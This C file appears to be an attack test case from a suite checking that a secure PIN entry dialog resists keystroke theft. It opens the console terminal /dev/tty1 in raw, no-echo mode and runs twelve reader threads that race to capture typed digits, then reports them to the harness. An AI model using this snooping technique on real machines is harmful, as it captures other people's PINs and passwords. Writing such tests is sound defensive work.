// SPDX-License-Identifier: Apache-2.0
/*
 * Reads the console's terminal, where typed keys go when nothing holds them back. Many
 * readers take turns with whoever else reads there, so one missing digit is all they lose.
 *
 * attack: console_reader
 * class: input
 * when: before
 * judge: keys
 * dialog: tty
 * defence: module
 * why: the console's keyboard handler types into the terminal in front, under
 *	whatever picture; the kernel's grab keeps the keys from it
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

#include "digits.h"
#include "report.h"

#define TERMINAL	"/dev/tty1"
#define READERS		12

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;	/* digits */
static struct digits digits;
static int fd;

static void *read_terminal(void *arg)
{
	ssize_t got;
	char c;

	while ((got = read(fd, &c, 1)) >= 0) {
		pthread_mutex_lock(&lock);
		if (got)
			digits_add(&digits, c);
		pthread_mutex_unlock(&lock);
	}
	return arg;
}

int main(void)
{
	struct termios old, raw;
	pthread_t thread;
	int i;

	attack_init();
	fd = open(TERMINAL, O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (fd < 0 || tcgetattr(fd, &old))
		attack_failed(TERMINAL ": %s", strerror(errno));
	raw = old;
	raw.c_lflag &= ~(tcflag_t)(ICANON | ECHO);
	tcsetattr(fd, TCSANOW, &raw);
	for (i = 0; i < READERS; i++)
		pthread_create(&thread, NULL, read_terminal, NULL);
	attack_ready();
	while (!attack_wait(1000))
		;
	tcsetattr(fd, TCSANOW, &old);
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
